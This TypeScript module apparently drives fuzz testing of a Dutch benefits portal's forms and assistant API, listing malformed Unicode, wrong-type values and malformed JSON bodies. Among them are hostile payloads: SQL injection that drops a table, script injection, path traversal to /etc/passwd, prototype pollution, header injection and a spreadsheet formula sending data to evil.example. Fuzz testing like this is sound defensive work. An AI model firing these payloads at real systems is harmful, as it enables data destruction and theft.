/**
 * Fuzz payloads: hostile, malformed and edge-case values for form fields and the JSON API.
 * A value is a string, raw bytes (sent as-is inside a form body, for invalid UTF-8), or a list
 * (the same field repeated).
 */

export type RawBytes = { bytes: Buffer };
export type FieldValue = string | RawBytes | FieldValue[];

export interface Payload {
	name: string;
	value: FieldValue;
}

/** A Tigrinya (Ge'ez script) sentence, repeated to the requested length. */
export function geez(length: number): string {
	const sentence = 'ሰላም፡ እዚ ናይ ስራሕን ኣታዊን ፖርታል እዩ። ሕቶ እንተሃልዩኩም ተወከሱና። ';
	return sentence.repeat(Math.ceil(length / sentence.length)).slice(0, length);
}

export const ARABIC = 'مرحبا، أريد أن أسأل عن المساعدة الاجتماعية والعمل';
/** Woman technologist with skin tone, a ZWJ family, and a flag sequence. */
export const EMOJI = '👩🏽‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 👍🏿';
export const RTL_OVERRIDE = 'factuur\u202Efdp.exe';
export const ZERO_WIDTH = 'na\u200Bam\uFEFF test\u200D';
/** Decomposed "é" (e + combining acute) and stacked combining marks. */
export const COMBINING = 'Cafe\u0301 Z\u0337\u0322\u034Ea\u0338l\u0336g\u0335o\u0336';
export const NUL = 'voor\u0000na';

const invalidUtf8: RawBytes = { bytes: Buffer.from([0x61, 0xff, 0xfe, 0xc3, 0x28, 0x62]) };
/** A lone high surrogate as its CESU-8 bytes (not valid UTF-8). */
const loneSurrogate: RawBytes = { bytes: Buffer.from([0x78, 0xed, 0xa0, 0x80, 0x79]) };

/** Sent as the value of every visible field of a form (and, for hidden-only forms, of every field). */
export const ALL_FIELD_PAYLOADS: Payload[] = [
	{ name: 'empty', value: '' },
	{ name: 'whitespace', value: ' \t \u00A0 ' },
	{ name: 'repeated', value: ['een', 'twee', 'drie'] },
	{ name: 'number-words', value: 'vier' },
	{ name: 'not-an-option', value: 'not-an-option' },
	{ name: 'oversized-10kB', value: 'x'.repeat(10_240) },
	{ name: 'rtl-override', value: RTL_OVERRIDE },
	{ name: 'zero-width', value: ZERO_WIDTH },
	{ name: 'combining', value: COMBINING },
	{ name: 'emoji', value: EMOJI },
	{ name: 'lone-surrogate', value: loneSurrogate },
	{ name: 'invalid-utf8', value: invalidUtf8 },
	{ name: 'nul', value: NUL },
	{ name: 'geez-5000', value: geez(5000) },
	{ name: 'arabic', value: ARABIC },
	{ name: 'sql-or', value: "' OR 1=1 --" },
	{ name: 'sql-drop', value: "'); drop table accounts; --" },
	{ name: 'html-script', value: '<script>alert(1)</script><img src=x onerror=alert(2)>' },
	{ name: 'template', value: '{{x}} ${x} {{constructor.constructor("return 1")()}}' },
	{ name: 'csv-formula', value: '=HYPERLINK("http://evil.example/?x="&A1,"klik")' },
	{ name: 'path-traversal', value: '../../../../etc/passwd%00' },
	{ name: 'crlf', value: 'a\r\nSet-Cookie: session=evil\r\nLocation: http://evil.example' }
];

/**
 * A value of the wrong type for a field (by its HTML type), tried one field at a time with the
 * others as the page showed them. Always invalid for that field, so these never store anything.
 */
export function wrongTypeFor(field: { tag: string; type: string; options: string[] }): Payload[] {
	if (field.tag === 'select' || field.type === 'radio' || field.type === 'checkbox')
		return [
			{ name: 'not-an-option', value: 'not-an-option' },
			{ name: 'options-joined', value: field.options.join(',') || 'a,b' }
		];
	if (field.type === 'number')
		return [
			{ name: 'number-huge', value: '-99999999999999999999999' },
			{ name: 'number-words', value: 'vier' },
			{ name: 'number-fraction', value: '-0.5' }
		];
	if (field.type === 'date')
		return [
			{ name: 'date-impossible', value: '2026-02-30' },
			{ name: 'date-words', value: 'gisteren' },
			{ name: 'date-far', value: '275760-09-13' }
		];
	if (field.type === 'hidden')
		return [
			{ name: 'id-not-uuid', value: 'not-a-uuid' },
			{ name: 'id-nil-uuid', value: '00000000-0000-0000-0000-000000000000' },
			{ name: 'id-sql', value: "1' OR '1'='1" }
		];
	if (field.type === 'submit') return [{ name: 'not-an-option', value: 'not-an-option' }];
	if (field.type === 'email') return [{ name: 'email-broken', value: 'a@@b' }];
	if (field.type === 'time') return [{ name: 'time-impossible', value: '25:61' }];
	// Longer than any text field may be (the longest, FAQ phrasings, allows 20 000).
	return [{ name: 'oversized-30k', value: 'y'.repeat(30_000) }];
}

/** Valid input that should be stored; what the app is expected to keep of it. */
export interface RoundTrip {
	name: string;
	input: string;
	/** The app's documented normalisation (forms/parse.ts): NFC, bidi overrides and control
	 * characters stripped, whitespace collapsed on one-line fields. Zero-width characters stay. */
	stored: string;
}

export function expectedStored(input: string, multiline: boolean): string {
	const cleaned = input
		.normalize('NFC')
		// eslint-disable-next-line no-control-regex
		.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F\u202A-\u202E\u2066-\u2069]/g, '');
	return multiline ? cleaned.replace(/\r\n/g, '\n').trim() : cleaned.replace(/\s+/g, ' ').trim();
}

export const ROUND_TRIP_TEXTS: { name: string; input: string }[] = [
	{ name: 'emoji', input: `Bakkerij ${EMOJI}` },
	{ name: 'arabic', input: ARABIC },
	{ name: 'geez', input: geez(100) },
	{ name: 'rtl-override', input: `Notitie ${RTL_OVERRIDE}` },
	{ name: 'zero-width', input: ZERO_WIDTH },
	{ name: 'combining', input: COMBINING }
];

/** Bodies for POST /api/assistant: [name, content type, body]. */
export function assistantBodies(): [string, string, string | Buffer][] {
	const json = 'application/json';
	return [
		['empty', json, ''],
		['malformed', json, '{"question": "bijstand",'],
		['not-json', json, 'question=bijstand&locale=nl'],
		['array', json, '[1,2,3]'],
		['null', json, 'null'],
		['string', json, '"bijstand"'],
		['number', json, '42'],
		['question-number', json, JSON.stringify({ question: 42, locale: 'nl' })],
		['question-object', json, JSON.stringify({ question: { $ne: 1 }, locale: 'nl' })],
		['question-array', json, JSON.stringify({ question: ['a', 'b'], locale: 'nl' })],
		['question-missing', json, JSON.stringify({ locale: 'nl' })],
		['question-empty', json, JSON.stringify({ question: '', locale: 'nl' })],
		['locale-unknown', json, JSON.stringify({ question: 'bijstand', locale: 'xx' })],
		['locale-traversal', json, JSON.stringify({ question: 'bijstand', locale: '../../nl' })],
		['locale-proto', json, '{"question":"bijstand","locale":"nl","__proto__":{"admin":true}}'],
		['question-long', json, JSON.stringify({ question: 'bijstand '.repeat(500), locale: 'nl' })],
		['huge-json', json, JSON.stringify({ question: 'x'.repeat(2_000_000), locale: 'nl' })],
		['deep-json', json, '['.repeat(5000) + ']'.repeat(5000)],
		['nul', json, JSON.stringify({ question: NUL, locale: 'nl' })],
		['lone-surrogate', json, '{"question":"\\ud800 bijstand","locale":"nl"}'],
		[
			'invalid-utf8',
			json,
			Buffer.concat([
				Buffer.from('{"question":"'),
				invalidUtf8.bytes,
				Buffer.from('","locale":"nl"}')
			])
		],
		['geez', json, JSON.stringify({ question: geez(400), locale: 'ti' })],
		['arabic', json, JSON.stringify({ question: ARABIC, locale: 'ar' })],
		['emoji', json, JSON.stringify({ question: EMOJI, locale: 'nl' })],
		['rtl-override', json, JSON.stringify({ question: RTL_OVERRIDE, locale: 'nl' })],
		['sql', json, JSON.stringify({ question: "'); drop table accounts; --", locale: 'nl' })],
		['html', json, JSON.stringify({ question: '<script>alert(1)</script>', locale: 'en' })],
		['template', json, JSON.stringify({ question: '{{x}} ${x}', locale: 'nl' })],
		['form-body', 'application/x-www-form-urlencoded', 'question=bijstand&locale=nl'],
		['text-plain', 'text/plain', JSON.stringify({ question: 'bijstand', locale: 'nl' })],
		[
			'multipart',
			'multipart/form-data; boundary=xyz',
			'--xyz\r\nContent-Disposition: form-data; name="question"\r\n\r\nbijstand\r\n--xyz--\r\n'
		]
	];
}
